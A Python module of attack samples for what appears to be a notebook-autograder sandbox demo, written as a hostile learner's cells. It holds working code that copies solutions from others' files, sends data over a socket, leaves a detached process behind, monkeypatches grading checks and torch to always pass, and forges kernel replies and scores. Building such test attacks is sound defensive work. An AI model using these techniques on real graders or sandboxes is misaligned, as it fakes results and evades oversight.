"""The attacks of the demo's hostile learner: real ones, harmless where they win.

Each says "mallory: ..." when it has run, so that an attack which never started is not
taken for one that was stopped. Where tests run in the learner's own process, every one
of them wins; a test proves that.
"""

from dataclasses import dataclass
from pathlib import Path

__all__ = ["ANSWER", "ATTACKS", "SIGN", "Attack", "Surroundings"]

ANSWER = "@ANSWER@\n"
SIGN = "mallory: "


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    does : str
        What it does, in words.
    exercise : str
        The exercise that it stands in.
    stopped, won : str
        What became of it, in words: if it failed, as it must, and if not.
    says : str
        What it prints after `SIGN` once it has run.
    body : str or None
        Of a wrong function; None: the right answer, which keeps its marks.
    code : str
        The cell, with `ANSWER` where the function stands.
    """

    does: str
    exercise: str
    stopped: str
    won: str
    says: str
    body: str | None = "return None\n"
    code: str = ANSWER


@dataclass(frozen=True)
class Surroundings:
    """What the attacks aim at.

    Attributes
    ----------
    port : int
        A port of this machine on which somebody listens.
    files : tuple of Path
        Files that are not the learner's: the solution, others' work, the gradebook.
    target : Path
        A file that is not there; the process that is left behind writes it.
    marker : str
        Stands in the command line of that process.
    """

    port: int
    files: tuple[Path, ...]
    target: Path
    marker: str

    def put_into(self, code: str) -> str:
        """Return an attack's code with this in the place of its names."""
        values = {
            "PORT": self.port,
            "FILES": [str(path) for path in self.files],
            "TARGET": str(self.target),
            "MARKER": self.marker,
        }
        for name, value in values.items():
            code = code.replace(f"@{name}@", repr(value))
        return code


LOOP = """\
print("mallory: looping")
while True:
    pass
"""
# Looks for the solution in other people's files; what it finds is the answer.
COPY = """\
import json

@ANSWER@
found = []
for path in @FILES@:
    try:
        with open(path, encoding="utf-8", errors="replace") as file:
            found.append(file.read())
    except OSError:
        pass
print(f"mallory: read {len(found)} files")
for text in found:
    for cell in json.loads(text)["cells"] if text.startswith("{") else []:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "distance_and_side":
            get_ipython().run_cell("".join(cell["source"]))
"""
CONNECT = """\
import socket
print("mallory: connecting")
socket.create_connection(("127.0.0.1", @PORT@), timeout=3).sendall(b"stolen")
"""
# Forked twice and in a session of its own: no longer the kernel's child.
LEAVE = """\
import os
import sys

LATER = '''
import pathlib, time
time.sleep(4)
pathlib.Path(@TARGET@).write_text("mallory was here")
time.sleep(60)
'''
told, tell = os.pipe()
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.write(tell, b"started")
            os.execv(sys.executable, [sys.executable, "-c", LATER, @MARKER@])
    finally:
        os._exit(0)
print("mallory: left a process behind,", os.read(told, 20).decode())

@ANSWER@
"""
PATCH = """\
import torch
from helpers import checks


def always(*args, **kwargs):
    return True


names = [name for name in checks.__all__ if name not in ("forbidden", "CheckFailure")]
for name in names:
    setattr(checks, name, always)
torch.equal = torch.allclose = torch.testing.assert_close = always
print("mallory: patched", len(names), "checks and 3 functions of torch")

@ANSWER@
"""
# Shows points as a value; answers in the place of the kernel, or of whoever holds the
# process's sockets; and has no error shown.
FORGE = """\
import json
import os
import socket
import struct
import sys

get_ipython().showtraceback = lambda *args, **kwargs: None


def reply_as_kernel():
    reply = {"status": "ok", "payload": [], "user_expressions": {}}
    reply["execution_count"] = 1
    frame, done = sys._getframe(), False
    while frame is not None:
        here = frame.f_locals
        if "ident" in here and "parent" in here and "stream" in here:
            kernel, about = here["self"], here["parent"]
            send = kernel.session.send
            send(here["stream"], "execute_reply", reply, about, ident=here["ident"])
            idle = {"execution_state": "idle"}
            send(kernel.iopub_socket, "status", idle, about)
            done = True
        frame = frame.f_back
    return done


def reply_on_sockets():
    result = {"output_type": "execute_result", "data": {"text/plain": "2.0"}}
    text = {"output_type": "stream", "name": "stdout", "text": "mallory: forging"}
    reply = {"status": "ok", "error": None, "value": "2.0", "outputs": [text, result]}
    message = json.dumps(reply).encode()
    for number in range(3, 256):
        try:
            with socket.socket(fileno=os.dup(number)) as end:
                whole = struct.pack(">Q", len(message)) + message
                end.send(whole, socket.MSG_DONTWAIT)
        except OSError:
            pass


def forge():
    print("mallory: forging")
    sys.displayhook(2.0)
    if not reply_as_kernel():
        reply_on_sockets()


@ANSWER@
"""
# The right answer; each call of it looks like a failure, by nbgrader's rules too.
NOISE = """\
import os
import sys
import warnings

@ANSWER@
quiet_gate_weights = gate_weights


def gate_weights(name, num_inputs):
    for stream in (sys.stdout, sys.stderr):
        print("mallory: noise", file=stream)
        print("AssertionError: 0 of 2 points, FAILED", file=stream)
        print('{"status": "error", "score": 0}', file=stream)
    os.write(2, b"Traceback (most recent call last):" + os.linesep.encode())
    warnings.warn("score: 0")
    sys.displayhook(0.0)
    return quiet_gate_weights(name, num_inputs)
"""

ATTACKS = (
    Attack("looped for ever", "neuron", "stopped, the rest went on",
           "was not stopped", "looping", LOOP),
    Attack("looked into others' files", "distance_and_side", "found none",
           "copied the solution", "read ", "return None\n", COPY),
    Attack("sent data through a socket", "perceptron_step", "nobody heard it",
           "it arrived", "connecting", CONNECT),
    Attack("left a process behind", "train_perceptron", "gone with its jail",
           "it lives on", "left a process behind, started", None, LEAVE),
    Attack("forged a result", "odds_factors", "not believed", "was believed",
           "forging", "forge()\n", FORGE),
    Attack("patched the checks", "is_separable", "no effect", "passed the tests",
           "patched ", "return True, 1\n", PATCH),
    Attack("wrote noise that looks like results", "gate_weights", "cost nothing",
           "changed the score", "noise", None, NOISE),
)  # fmt: skip
